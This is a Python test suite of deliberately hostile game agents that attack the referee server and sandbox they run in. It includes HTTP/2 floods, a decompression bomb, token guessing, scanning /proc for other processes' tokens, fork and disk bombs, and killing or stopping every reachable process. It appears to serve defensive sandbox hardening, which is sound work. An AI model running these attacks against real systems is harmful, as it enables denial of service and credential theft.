"""Agents that attack the match in which they play: `python attackers.py NAME`.

Each runs in a box. NAME is a function below: it is called at the first decision, or instead of joining. Every attack is bounded in
number, size and time.
"""

import asyncio
import contextlib
import itertools
import mmap
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

SOCKET = os.environ.get("DOGANA_ADDRESS", "").removeprefix("unix:")
TOKEN = os.environ.get("DOGANA_TOKEN", "")
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BLOCK = "x" * (1 << 20)

# --- instead of joining: bytes on the socket ------------------------------------------------------------------


def says_nothing() -> None:
    """Opens 200 connections and sends nothing on any of them."""
    _hold([_connected() for _ in range(200)])


def speaks_in_part() -> None:
    """Begins HTTP/2 frames that never end, on 50 connections."""
    for number in range(50):
        one = _connected()
        one.send((_PREFACE + b"\x00\x40\x00\x01\x04\x00\x00\x00\x01\x82\x86")[: 10 + number])
        _HELD.append(one)
    _hold([])


def speaks_nonsense() -> None:
    """Sends bytes that are not HTTP/2 on 200 connections, and closes its half of each."""
    for number in range(200):
        with contextlib.suppress(OSError), _connected() as one:
            one.sendall(_PREFACE + bytes(number + at & 255 for at in range(4096)))
            one.shutdown(socket.SHUT_WR)
    _hold([])


def resets() -> None:
    """Opens and resets 5,000 streams on one connection, as fast as it can."""
    with contextlib.suppress(OSError), _connected() as one:
        one.sendall(_PREFACE + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
        headers = b"\x83\x86\x44\x17/dogana.v1.Referee/Play\x41\x01x\x5f\x10application/grpc"
        for number in range(1, 10_000, 2):
            stream = number.to_bytes(4, "big")
            one.sendall(len(headers).to_bytes(3, "big") + b"\x01\x04" + stream + headers)
            one.sendall(b"\x00\x00\x04\x03\x00" + stream + b"\x00\x00\x00\x08")
    _hold([])


def sends_no_use() -> None:
    """Sends 200,000 pings, settings, empty frames and endless headers as fast as it can, on one connection after another."""
    ping = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + bytes(8)
    settings = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
    unknown = b"\x00\x00\x00\x55\x00\x00\x00\x00\x00"
    endless = b"\x00\x00\x01\x01\x00\x00\x00\x00\x01\x82" + b"\x00\x00\x00\x09\x00\x00\x00\x00\x01" * 999
    for flood in (ping * 1000, settings * 1000, unknown * 1000, endless):
        for _ in range(50):
            with contextlib.suppress(OSError), _connected() as one:
                one.sendall(_PREFACE + settings + flood)
    _hold([])


def guesses_tokens() -> None:
    """Joins with 200 tokens that are not its own."""
    for number in range(200):
        answer = list(_play([_join(f"{TOKEN[:-3]}{number:03}")] if number % 2 else [_join("")]))
        assert answer == [], "a token was guessed"
    _hold([])


_HELD: "list[object]" = []


def _connected() -> socket.socket:
    one = socket.socket(socket.AF_UNIX)
    one.settimeout(5)
    one.connect(SOCKET)
    return one


def _hold(what: "list[Any]") -> None:
    _HELD.extend(what)
    print("done", flush=True)
    time.sleep(600)


# --- a stream of its own, by gRPC -----------------------------------------------------------------------------


def _join(token: str) -> bytes:
    from dogana.v1 import referee_pb2 as pb

    return pb.AgentMessage(join=pb.Join(token=token, protocol=1)).SerializeToString()


def _play(messages: "list[bytes]", metadata: "list[tuple[str, str]] | None" = None) -> "Iterator[bytes]":
    """Open a call, send these messages, half-close, and yield what comes back until it ends."""
    import grpc

    with grpc.insecure_channel(f"unix:{SOCKET}", [("grpc.use_local_subchannel_pool", 1)]) as channel:
        call: Any = channel.stream_stream("/dogana.v1.Referee/Play")
        with contextlib.suppress(grpc.RpcError):
            yield from call(iter(messages), metadata=metadata, timeout=20)


def _talks(*messages: bytes, is_open: bool = True, is_compressed: bool = False) -> None:
    """Join on a stream of its own, wait for the first decision, say these messages, and stay."""
    import grpc

    from dogana.v1 import referee_pb2 as pb

    is_asked = threading.Event()

    def said() -> "Iterator[bytes]":
        yield _join(TOKEN)
        is_asked.wait(60)
        yield from messages
        if is_open:
            time.sleep(600)

    with grpc.insecure_channel(f"unix:{SOCKET}") as channel:
        call: Any = channel.stream_stream("/dogana.v1.Referee/Play", response_deserializer=pb.RefereeMessage.FromString)
        with contextlib.suppress(grpc.RpcError):
            for message in call(said(), compression=grpc.Compression.Gzip if is_compressed else None):
                if message.WhichOneof("message") == "decide":
                    is_asked.set()
    time.sleep(600)


def sends_a_giant() -> None:
    """Sends a message of 8 MiB."""
    _talks(b"\x12" * (8 << 20))


def sends_a_bomb() -> None:
    """Sends a compressed message that unpacks to 32 MiB."""
    _talks(bytes(32 << 20), is_compressed=True)


def sends_no_message() -> None:
    """Sends bytes that are not a message of the protocol."""
    _talks(b"\xff" * 100)


def joins_again() -> None:
    """Sends its Join twice on one stream."""
    _talks(_join(TOKEN))


def closes_halfway() -> None:
    """Closes its half of the stream, and goes on reading."""
    _talks(is_open=False)


def sends_too_much() -> None:
    """Answers one decision 100,000 times."""
    from dogana.v1 import referee_pb2 as pb

    _talks(*itertools.repeat(pb.AgentMessage(choose=pb.Choose(decision=0, index=0)).SerializeToString(), 100_000))


# --- at the first decision, then it plays on ------------------------------------------------------------------


def opens_more_streams() -> None:
    """Opens 1,000 streams on one connection, sends headers of 1 MiB, and asks for services that are not its own; then it plays."""
    import grpc

    from dogana.sdk import play

    assert list(_play([_join(TOKEN)], [("x", _BLOCK)])) == []
    with grpc.insecure_channel(f"unix:{SOCKET}") as channel:
        for name in ("dogana.v1.Referee/Watch", "dogana.v1.Referee/List", "grpc.reflection.v1alpha.ServerReflection/X"):
            ask: Any = channel.unary_unary(f"/{name}")
            assert ask.future(b"", timeout=20).code() is grpc.StatusCode.UNIMPLEMENTED, name

    async def open_all() -> None:
        async with grpc.aio.insecure_channel(f"unix:{SOCKET}") as channel:
            calls: list[Any] = [channel.stream_stream("/dogana.v1.Referee/Play")() for _ in range(1000)]
            await asyncio.sleep(0.2)
            for call in calls:
                call.cancel()

    asyncio.run(open_all())
    play(lambda decision: 0)


def names_itself() -> None:
    """Gives itself a name of bytes that are not text and look like the kernel's report on a process; later it joins and plays."""
    import ctypes

    from dogana.sdk import play

    ctypes.CDLL(None).prctl(15, b"\xff\n) R 1 (", 0, 0, 0)  # PR_SET_NAME
    print("named", flush=True)
    time.sleep(3)
    play(lambda decision: 0)


def connects_again() -> None:
    """Connects a second time after it has joined, and tries to open its socket to others and to remove it."""
    for action in (_connected, lambda: os.chmod(SOCKET, 0o666), lambda: os.remove(SOCKET)):
        try:
            action()
        except OSError as error:
            print(f"refused: {type(error).__name__}", flush=True)
        else:
            print("done", flush=True)


def floods_its_output() -> None:
    """Writes endlessly to its standard output and standard error while it plays."""

    def flood() -> None:
        while True:
            for number in (1, 2):
                os.write(number, _BLOCK.encode())

    threading.Thread(target=flood, daemon=True).start()


def closes_its_output() -> None:
    """Closes its standard input, output and error."""
    for number in range(3):
        os.close(number)


def writes_escapes() -> None:
    """Writes terminal escapes, line ends of all kinds, bytes that are not text, and a line that does not end."""
    os.write(2, b"\x1b]0;title\x07\x1b[2J\x9b2J\r\n\x00\xff\xfe\xe2\x80\xaenot UTF-8\n" + b"long" * 100_000)


def loses_a_child() -> None:
    """Starts a child that takes more memory than both are allowed."""
    child = os.fork()
    if child == 0:
        memory = mmap.mmap(-1, 400 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        for page in range(0, len(memory), mmap.PAGESIZE):
            memory[page] = 1
        os._exit(0)
    _, status = os.waitpid(child, 0)
    assert os.WIFSIGNALED(status) or status, "it had the memory"


def loses_a_child_then_fails() -> None:
    """Does the same, then ends by itself, with status 3."""
    loses_a_child()
    os._exit(3)


def steals_a_token() -> None:
    """Looks for another seat's socket, and for its token in the environments, arguments and memory of processes."""
    found = []
    for name in os.listdir("/proc"):
        for file in ("environ", "cmdline", "mem"):
            if name.isdigit() and int(name) != os.getpid():
                with contextlib.suppress(OSError), open(f"/proc/{name}/{file}", "rb") as opened:
                    data = opened.read(1 << 20) if file != "mem" else b""
                    found += [
                        word for word in data.split(b"\0") if b"DOGANA_TOKEN" in word and TOKEN.encode() not in word
                    ]
    for folder in ("/run", "/tmp", "/var/run"):
        found += [str(path).encode() for path in Path(folder).rglob("*") if path.is_socket() and str(path) != SOCKET]
    print("stolen:", found, flush=True)


def bombs() -> None:
    """Starts processes until it is refused, leaves half of them as zombies for a while, and fills its disk."""
    started = []
    with contextlib.suppress(OSError):
        for number in range(1000):
            arguments = ["sleep", "600"] if number % 2 else ["true"]
            started.append(os.posix_spawn(f"/usr/bin/{arguments[0]}", arguments, {}))
    with contextlib.suppress(OSError), open("/tmp/full", "wb") as file:
        for _ in range(1000):
            file.write(_BLOCK.encode())
    for one in started:
        os.kill(one, signal.SIGKILL)
        os.waitpid(one, 0)
    assert 0 < len(started) < 100


def uses_up_files() -> None:
    """Holds 3,000 connections from 15 processes, and opens closed ones again: each takes an open file of the referee."""
    command = [sys.executable, "-I", "-S", "-c", _HOLDER, SOCKET]
    holders = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(15)]
    print("held:", sum(int(holder.stdout.readline()) for holder in holders if holder.stdout), flush=True)


_HOLDER = """
import select, socket, sys, time
connections, end, is_full = [], time.monotonic() + 60, False
while time.monotonic() < end:
    while len(connections) < 200:
        one = socket.socket(socket.AF_UNIX)
        one.setblocking(False)
        try:
            one.connect(sys.argv[1])
        except OSError:
            time.sleep(0.01)
            break
        connections.append(one)
    if not is_full:
        print(len(connections), flush=True)
        is_full = True
    closed, _, _ = select.select(connections, [], [], 0.05)
    for one in closed:
        try:
            if one.recv(4096):
                continue
        except OSError:
            pass
        connections.remove(one)
        one.close()
"""


def stays() -> None:
    """Ignores all signals, leaves a process behind in another session, and does not end after the match."""
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        time.sleep(600)
    os.wait()
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
        signal.signal(number, signal.SIG_IGN)


# --- at the first decision, and that is its end ---------------------------------------------------------------


def takes_all_memory() -> None:
    """Takes more memory than it is allowed."""
    held = []
    while True:
        held.append(_BLOCK.encode())


def gives_up_its_first_process() -> None:
    """Takes more memory than it is allowed, and offers bubblewrap's process in its box to be killed instead."""
    with contextlib.suppress(OSError):
        Path("/proc/1/oom_score_adj").write_text("1000")
    takes_all_memory()


def ends_with_137() -> None:
    """Ends with the status that shells report for a killed process, though nobody has killed it."""
    os._exit(137)


def kills_itself() -> None:
    """Kills itself."""
    os.kill(os.getpid(), signal.SIGKILL)


def kills_everybody() -> None:
    """Kills all processes that it can reach, beginning with its parent and its group."""
    for one in (os.getppid(), 0, -1):
        with contextlib.suppress(OSError):
            os.kill(one, signal.SIGKILL) if one else os.killpg(0, signal.SIGKILL)
    os._exit(0)


def stops_everybody() -> None:
    """Stops all processes that it can reach, and itself last."""
    for one in (os.getppid(), -1, os.getpid()):
        with contextlib.suppress(OSError):
            os.kill(one, signal.SIGSTOP)


def calls_by_another_entry() -> None:
    """Makes a system call through the entry point of 32-bit programs (on x86-64), or one that ends it (elsewhere)."""
    if os.uname().machine != "x86_64":
        os.kill(os.getpid(), signal.SIGSYS)
    import ctypes

    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20; int 0x80; ret
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


def becomes_another() -> None:
    """Becomes another program, which does not speak the protocol."""
    os.execv("/usr/bin/sleep", ["sleep", "600"])


def leaves_a_child() -> None:
    """Ends, and leaves a child that holds its socket, in another session and without a parent."""
    subprocess.Popen(["/usr/bin/sleep", "600"], start_new_session=True, close_fds=False)
    os._exit(0)


def does_not_read() -> None:
    """Joins, and from then on neither reads nor answers."""
    time.sleep(600)


def main() -> None:
    """Play as the attacker of the command line."""
    if Path(__file__).resolve().parent != Path("/bot") or "NoNewPrivs:\t1" not in Path("/proc/self/status").read_text():
        sys.exit("this attacks the machine on which it runs: it does so in a box only")
    attack: Callable[[], None] = globals()[sys.argv[1]]
    if len(sys.argv) > 2:
        attack()
        return
    from dogana.sdk import play

    waiting = [attack]
    play(lambda decision: (waiting.pop()() if waiting else None, 0)[1])


if __name__ == "__main__":
    main()
